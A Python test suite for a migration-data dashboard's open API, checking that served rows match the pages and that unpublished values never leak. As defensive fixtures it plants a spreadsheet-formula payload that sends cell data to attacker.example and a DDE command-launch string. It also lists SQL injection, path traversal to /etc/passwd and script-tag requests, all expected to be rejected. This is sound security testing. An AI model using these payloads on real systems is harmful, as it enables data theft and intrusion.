@@ -1,0 +1,389 @@
+"""Open data by URL (/api/v1, /embed, /healthz): the routes of `st.App`, served here by uvicorn alone from a
+thread, on a database with the shipped data, the illustrative data, unpublished values and hostile text.
+
+What the pages show and what the API serves come from the same rows: the tests compare them for sampled
+filters. Nothing unpublished or illustrative is ever in a response, and hostile requests get a clean 4xx."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import socket
+import threading
+import time
+import urllib.error
+import urllib.request
+
+import polars as pl
+import pytest
+from sqlalchemy import insert, select
+
+from mirps_dash import api, database, datastamp, demo, embeds, i18n, load, metrics, queries, routes
+from mirps_dash.schema import City, Commitment, Indicator, IndicatorValue
+
+# Values no public figure has: if one shows up in a response, an unpublished value leaked.
+PUBLISHED = 31.25
+UNPUBLISHED = {"draft": 987654.25, "submitted": 876543.25, "returned": 765432.25, "approved": 654321.25}
+HOSTILE_CITY = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+
+
+def _prepare(url: str) -> None:
+    engine = database.make_engine(url)
+    load.first_load(engine)
+    demo.load(engine)  # illustrative commitments, indicators and values, some of them "published"
+    with engine.begin() as connection:
+        commitment = connection.execute(
+            insert(Commitment)
+            .values(
+                code="TEST-HND-1",
+                country_iso3="HND",
+                focus_area="protection",
+                text_es="Compromiso de prueba",
+                text_en="Test commitment",
+                national_plan="Plan",
+                period_start=2019,
+                period_end=2027,
+                is_illustrative=False,
+            )
+            .returning(Commitment.id)
+        ).scalar_one()
+        indicator = connection.execute(
+            insert(Indicator)
+            .values(
+                code="TEST-HND-1-a",
+                commitment_id=commitment,
+                name_es="Indicador de prueba",
+                name_en="Test indicator",
+                unit="%",
+                baseline_year=2019,
+                baseline_value=10.0,
+                target_year=2027,
+                target_value=50.0,
+                direction="increase",
+                is_illustrative=False,
+            )
+            .returning(Indicator.id)
+        ).scalar_one()
+        rows = [{"period": 2020, "value": PUBLISHED, "status": "published"}]
+        rows += [{"period": 2021 + i, "value": v, "status": s} for i, (s, v) in enumerate(UNPUBLISHED.items())]
+        for row in rows:
+            connection.execute(insert(IndicatorValue).values(indicator_id=indicator, is_illustrative=False, **row))
+        connection.execute(
+            insert(City).values(
+                source_id="cities_of_solidarity",
+                city=HOSTILE_CITY,
+                municipality="+cmd|' /C calc'!A0",
+                country_iso3="HND",
+                status="recognized",
+                status_date="2024-01",
+                lat=14.1,
+                lon=-87.2,
+                population=None,
+                coord_source="test",
+                geonameid=999_999_999,
+                source_url="https://example.org/",
+                note="@SUM(1+1)",
+            )
+        )
+        datastamp.bump(connection)
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+@pytest.fixture(scope="module")
+def prepared(tmp_path_factory) -> str:
+    url = f"sqlite:///{tmp_path_factory.mktemp('api') / 'mirps.sqlite'}"
+    _prepare(url)
+    return url
+
+
+@pytest.fixture(scope="module")
+def server(prepared):
+    """The project's routes under uvicorn on a free port, reading `prepared` (no Streamlit runtime needed)."""
+    import uvicorn
+    from starlette.applications import Starlette
+
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("MIRPS_DATABASE_URL", prepared)
+        port = _free_port()
+        config = uvicorn.Config(Starlette(routes=routes.ROUTES), host="127.0.0.1", port=port, log_level="warning")
+        running = uvicorn.Server(config)
+        thread = threading.Thread(target=running.run, daemon=True)
+        thread.start()
+        deadline = time.monotonic() + 20
+        while not running.started and time.monotonic() < deadline:
+            time.sleep(0.05)
+        yield f"http://127.0.0.1:{port}"
+        running.should_exit = True
+        thread.join(timeout=10)
+
+
+def get(base: str, path: str, headers: dict | None = None) -> tuple[int, dict, bytes]:
+    request = urllib.request.Request(base + path, headers=headers or {})  # noqa: S310 (loopback)
+    try:
+        with urllib.request.urlopen(request, timeout=30) as response:  # noqa: S310 (loopback)
+            return response.status, {k.lower(): v for k, v in response.headers.items()}, response.read()
+    except urllib.error.HTTPError as error:
+        return error.code, {k.lower(): v for k, v in error.headers.items()}, error.read()
+
+
+def csv_rows(body: bytes) -> list[dict]:
+    assert body.startswith(b"\xef\xbb\xbf"), "a UTF-8 BOM, so a spreadsheet reads the accents right"
+    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
+
+
+# -------------------------------------------------------------------------------- the pages' figures
+
+
+@pytest.mark.parametrize(("country", "year"), [("HND", 2025), ("MEX", 2020), ("GTM", 2016), ("PAN", 2023)])
+def test_population_rows_equal_the_pages_figures(server, prepared, country, year):
+    status, headers, body = get(server, f"/api/v1/datasets/population.csv?country={country}&year={year}")
+    assert status == 200 and headers["content-type"].startswith("text/csv")
+    served = pl.DataFrame(csv_rows(body)).with_columns(pl.col("year", "value").cast(pl.Int64))
+    reader = queries.Reader(prepared)
+    shown = queries.population_by_country(reader, (year,)).filter(pl.col("country_iso3") == country)
+    assert served.height == shown.height > 0
+    columns = ["year", "country_iso3", "role", "population_type", "value"]
+    assert served.select(columns).sort(columns).equals(shown.select(columns).sort(columns))
+    # the bars of the overview's "by country" chart, recomputed from the served rows
+    by_country = metrics.protection_by_country(shown, year)
+    again = metrics.protection_by_country(served.select(columns), year)
+    assert again.sort("country_iso3", "role").equals(by_country.sort("country_iso3", "role"))
+
+
+def test_a_countrys_trend_from_the_api_equals_the_pages_totals(server, prepared):
+    _, _, body = get(server, "/api/v1/datasets/population.json?country=HND&role=origin&lang=en")
+    document = json.loads(body)
+    assert document["cut"] == "live" and document["licence"] == "CC BY 4.0"
+    assert document["sources"][0]["date_of_data"] == "end-2025"
+    served = pl.DataFrame(document["rows"]).group_by("year", "population_type").agg(pl.col("value").sum())
+    totals = queries.population_totals(queries.Reader(prepared), ("HND",)).filter(pl.col("role") == "origin")
+    expected = totals.select("year", "population_type", "value")
+    assert served.sort("year", "population_type").equals(expected.sort("year", "population_type"), null_equal=True)
+    assert {row["country_name"] for row in document["rows"]} == {"Honduras"}
+    assert {row["role_label"] for row in document["rows"]} == {i18n.t("role_origin", "en")}
+
+
+def test_pairs_sum_to_the_flows_of_the_displacement_page(server, prepared):
+    _, _, body = get(server, "/api/v1/datasets/pairs.csv?origin=HND&year=2024&type=refugees,asylum_seekers")
+    served = pl.DataFrame(csv_rows(body)).with_columns(pl.col("value").cast(pl.Int64))
+    partners = queries.partners(queries.Reader(prepared), "HND", "origin", 2024, ("refugees", "asylum_seekers"))
+    per_partner = served.group_by("asylum_iso3").agg(pl.col("value").sum()).rename({"asylum_iso3": "partner_iso3"})
+    expected = partners.select("partner_iso3", "value")
+    assert per_partner.sort("partner_iso3").equals(expected.sort("partner_iso3"))
+
+
+def test_labels_follow_lang(server):
+    _, _, spanish = get(server, "/api/v1/datasets/population.csv?country=PAN&year=2025&role=asylum&type=refugees")
+    _, _, english = get(
+        server, "/api/v1/datasets/population.csv?country=PAN&year=2025&role=asylum&type=refugees&lang=en"
+    )
+    assert csv_rows(spanish)[0]["country_name"] == "Panamá" and csv_rows(english)[0]["country_name"] == "Panama"
+    assert csv_rows(spanish)[0]["value"] == csv_rows(english)[0]["value"]
+
+
+# -------------------------------------------------------------------------------- published data only
+
+
+def _every_response(server: str) -> list[bytes]:
+    bodies = []
+    for name in api.DATASETS:
+        for suffix in (".csv", ".json", "/datapackage.json"):
+            status, _, body = get(server, f"/api/v1/datasets/{name}{suffix}")
+            assert status == 200, (name, suffix, body[:300])
+            bodies.append(body)
+    bodies.append(get(server, "/api/v1/datasets")[2])
+    for figure in embeds.FIGURES:
+        bodies.append(get(server, f"/embed/{figure}")[2])
+    return bodies
+
+
+def test_no_unpublished_or_illustrative_value_in_any_response(server, prepared):
+    bodies = _every_response(server)
+    for value in UNPUBLISHED.values():
+        assert not any(str(value).encode() in body for body in bodies), value
+    _, _, body = get(server, "/api/v1/datasets/indicators.json")
+    rows = json.loads(body)["rows"]
+    assert [(row["indicator_code"], row["period"], row["value"]) for row in rows] == [("TEST-HND-1-a", 2020, PUBLISHED)]
+    # the illustrative indicators exist, some published, and none is served
+    reader = queries.Reader(prepared)
+    illustrative = reader.frame(select(Indicator.code).where(Indicator.is_illustrative))["code"].to_list()
+    assert illustrative
+    assert not any(code.encode() in b for code in illustrative for b in bodies)
+
+
+# -------------------------------------------------------------------------------- formats and caching
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(server):
+    _, _, body = get(server, "/api/v1/datasets/cities.csv?country=HND")
+    rows = [row for row in csv_rows(body) if "HYPERLINK" in row["city"]]
+    assert rows and rows[0]["city"] == "'" + HOSTILE_CITY
+    assert rows[0]["municipality"].startswith("'+") and rows[0]["note"] == "'@SUM(1+1)"
+    _, _, raw = get(server, "/api/v1/datasets/cities.json?country=HND")
+    assert HOSTILE_CITY in [row["city"] for row in json.loads(raw)["rows"]], "JSON carries the text as it is"
+
+
+def test_etag_and_last_modified_follow_the_data_version(server, prepared):
+    path = "/api/v1/datasets/population.csv?country=HND&year=2025"
+    status, headers, _ = get(server, path)
+    tag = headers["etag"]
+    assert status == 200 and headers["last-modified"].endswith("GMT") and headers["x-mirps-cut"] == "live"
+    assert get(server, path, {"If-None-Match": tag})[0] == 304
+    with database.make_engine(prepared).begin() as connection:
+        datastamp.bump(connection)
+    time.sleep(api.VERSION_SECONDS + 0.1)
+    status, headers, _ = get(server, path, {"If-None-Match": tag})
+    assert status == 200 and headers["etag"] != tag
+
+
+def test_pages_are_capped_and_link_to_the_next(server, prepared, monkeypatch):
+    whole = csv_rows(get(server, "/api/v1/datasets/population.csv?country=HND")[2])
+    collected, path = [], "/api/v1/datasets/population.csv?country=HND&limit=70"
+    while path:
+        status, headers, body = get(server, path)
+        assert status == 200
+        page = csv_rows(body)
+        assert len(page) <= 70
+        collected += page
+        found = re.search(r'<([^>]+)>; rel="next"', headers.get("link", ""))
+        path = found[1] if found else None
+    assert collected == whole and len(whole) > 140
+    # a byte cap shorter than the page cuts it and links on from where it stopped
+    monkeypatch.setattr(api, "MAX_BYTES", 2_000)
+    query = api.parse("population", {"country": ["HND"]}, "en")
+    reply = api.dataset_reply("population", "csv", {"country": ["HND"]}, "en", prepared)
+    assert len(reply.body) <= 2_000 and 'rel="next"' in reply.headers["Link"]
+    served = len(csv_rows(reply.body))
+    assert f"offset={query.offset + served}" in reply.headers["Link"]
+
+
+def test_datapackage_describes_the_csv(server):
+    _, _, body = get(server, "/api/v1/datasets/population/datapackage.json?lang=en")
+    package = json.loads(body)
+    resource = package["resources"][0]
+    fields = [field["name"] for field in resource["schema"]["fields"]]
+    header = list(csv_rows(get(server, "/api/v1/datasets/population.csv?lang=en&limit=1")[2])[0])
+    assert fields == header
+    assert package["licenses"][0]["name"] == "CC BY 4.0" and "UNHCR" in package["sources"][0]["title"]
+    assert package["cut"] == "live"
+
+
+def test_the_datasets_list_counts_rows_and_links_every_format(server):
+    listed = json.loads(get(server, "/api/v1/datasets?lang=en")[2])["datasets"]
+    assert [d["name"] for d in listed] == list(api.DATASETS)
+    population = next(d for d in listed if d["name"] == "population")
+    assert population["row_count"] > 1000 and population["licence"] == "CC BY 4.0"
+    indicators = next(d for d in listed if d["name"] == "indicators")
+    assert indicators["row_count"] == 1
+    assert (
+        json.loads(get(server, "/api/v1/")[2])["datasets"] == json.loads(get(server, "/api/v1/datasets")[2])["datasets"]
+    )
+
+
+# -------------------------------------------------------------------------------- hostile requests
+
+
+HOSTILE = [
+    ("/api/v1/datasets/population.csv?country=HND'%20OR%201=1--", 400, "bad_country"),
+    ("/api/v1/datasets/population.csv?year=2025;DROP%20TABLE%20population", 400, "bad_year"),
+    ("/api/v1/datasets/population.csv?year=99999999999999999999", 400, "bad_year"),
+    ("/api/v1/datasets/population.csv?limit=10000000000000", 400, "bad_number"),
+    ("/api/v1/datasets/population.csv?offset=-1", 400, "bad_number"),
+    ("/api/v1/datasets/population.csv?role=asylum%27--", 400, "bad_choice"),
+    ("/api/v1/datasets/population.csv?type=refugees&type=" + "x" * 5000, 400, "parameter_too_long"),
+    ("/api/v1/datasets/population.csv?country=" + ",".join(["HND"] * 60), 400, "too_many_values"),
+    ("/api/v1/datasets/population.csv?sql=select%201", 400, "unknown_parameter"),
+    ("/api/v1/datasets/population.csv?lang=fr", 400, "bad_lang"),
+    ("/api/v1/datasets/population.xlsx", 404, "unknown_format"),
+    ("/api/v1/datasets/sqlite_master.csv", 404, "unknown_dataset"),
+    ("/api/v1/datasets/..%2F..%2Fetc%2Fpasswd.csv", 404, None),
+    ("/api/v1/datasets/app_user.json", 404, "unknown_dataset"),
+    ("/api/v1/datasets/population/datapackage.json?lang=de", 400, "bad_lang"),
+    ("/api/v1/nothing/here", 404, "not_found"),
+    ("/embed/no-such-chart", 404, "unknown_figure"),
+    ("/embed/by-country?year=1700", 400, "bad_year"),
+    ("/embed/trend?country=USA", 400, "bad_choice"),
+    ("/embed/trend?script=%3Cscript%3E", 400, "unknown_parameter"),
+]
+
+
+@pytest.mark.parametrize(("path", "status", "code"), HOSTILE)
+def test_hostile_requests_get_a_clean_4xx_in_json(server, path, status, code):
+    got, _, body = get(server, path)
+    assert got == status, body[:300]
+    if code is not None:
+        error = json.loads(body)["error"]
+        assert error["code"] == code and error["message"]
+        assert not re.search(r"Traceback|Error\b|sqlalchemy|SELECT ", body.decode())
+
+
+def test_errors_speak_the_requested_language(server):
+    spanish = json.loads(get(server, "/api/v1/datasets/nothing.csv")[2])["error"]["message"]
+    english = json.loads(get(server, "/api/v1/datasets/nothing.csv?lang=en")[2])["error"]["message"]
+    by_header = json.loads(get(server, "/api/v1/datasets/nothing.csv", {"Accept-Language": "en-GB,en"})[2])
+    assert spanish.startswith("No hay") and english.startswith("There is no")
+    assert by_header["error"]["message"] == english
+
+
+def test_every_filter_reaches_sql_as_a_bound_parameter():
+    """The statement compiled with a hostile value carries it as a parameter, never in the SQL text."""
+    for name, dataset in api.DATASETS.items():
+        for parameter in dataset.filters:
+            query = api.Query(dataset, "en", ((parameter, ("X'); DROP TABLE population;--",)),), 10, 0)
+            compiled = api.statement(query).compile()
+            assert "DROP TABLE" not in str(compiled), (name, parameter)
+            assert any("DROP TABLE" in str(value) for value in compiled.params.values()), (name, parameter)
+
+
+# -------------------------------------------------------------------------------- health and embeds
+
+
+def test_healthz_says_the_database_is_reachable_and_at_head(server):
+    status, headers, body = get(server, "/healthz")
+    assert status == 200 and json.loads(body) == {"status": "ok", "database": "reachable", "schema": "head"}
+    assert headers["cache-control"] == "no-store"
+
+
+def test_healthz_is_503_when_the_database_is_behind_or_gone(tmp_path, monkeypatch):
+    from starlette.requests import Request
+
+    empty = f"sqlite:///{tmp_path / 'empty.sqlite'}"
+    monkeypatch.setenv("MIRPS_DATABASE_URL", empty)
+    request = Request({"type": "http", "method": "GET", "path": "/healthz", "headers": [], "query_string": b""})
+    behind = routes.healthz(request)
+    assert behind.status_code == 503 and json.loads(behind.body)["schema"] == "behind"
+    monkeypatch.setenv("MIRPS_DATABASE_URL", "postgresql+psycopg://nobody@127.0.0.1:9/none")
+    monkeypatch.setenv("MIRPS_DB_CONNECT_TIMEOUT", "2")
+    gone = routes.healthz(request)
+    assert gone.status_code == 503 and json.loads(gone.body)["database"] == "unreachable"
+
+
+def test_an_embed_carries_the_apps_spec_sources_licence_and_links(server, prepared):
+    status, headers, body = get(server, "/embed/by-country?lang=en&year=2024")
+    assert status == 200 and headers["content-type"].startswith("text/html")
+    assert "connect-src" not in headers["content-security-policy"]  # default-src 'none' covers it
+    assert "default-src 'none'" in headers["content-security-policy"]
+    text = body.decode()
+    spec = json.loads(re.search(r'<script type="application/json" id="spec">(.*?)</script>', text, re.S)[1])
+    from mirps_dash import charts
+
+    frame = metrics.protection_by_country(queries.population_by_country(queries.Reader(prepared), (2024,)), 2024)
+    assert spec == json.loads(json.dumps(charts.protection_by_country(frame, "en").to_dict()))
+    assert "CC BY 4.0" in text and "data as of end-2025" in text and "UNHCR" in text
+    assert 'href="/?lang=en"' in text and "/api/v1/datasets/population.csv" in text
+    assert re.findall(r'<script src="([^"]+)"', text) == ["/embed/vega-bundle.js", "/embed/embed.js"]
+    assert not re.search(r'(src|href)="(https?:)?//(?!www\.unhcr\.org|www\.internal-displacement\.org)', text)
+
+
+def test_the_bundled_vega_is_served_from_here_with_its_licences(server):
+    status, headers, body = get(server, "/embed/vega-bundle.js")
+    assert status == 200 and b"window.vegaEmbed=" in body and headers["content-type"].startswith("text/javascript")
+    assert get(server, "/embed/vega-bundle.js", {"If-None-Match": headers["etag"]})[0] == 304
+    assert (embeds.STATIC / "LICENSES.md").read_text().count("BSD 3-Clause") >= 2
